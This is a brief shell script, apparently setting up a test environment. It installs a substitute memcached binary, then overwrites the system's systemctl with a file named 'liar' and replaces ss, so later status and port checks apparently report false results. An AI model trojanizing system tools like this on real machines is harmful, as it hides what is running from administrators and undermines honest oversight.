#!/bin/sh
set -eu
mv /usr/bin/memcached /usr/bin/memcached.real
mv /root/memcached /usr/bin/memcached
systemctl restart memcached
until ss -ltnH | grep -q ":11211 "; do sleep 0.1; done
mv /root/liar /usr/bin/systemctl
mv /root/ss /usr/bin/ss
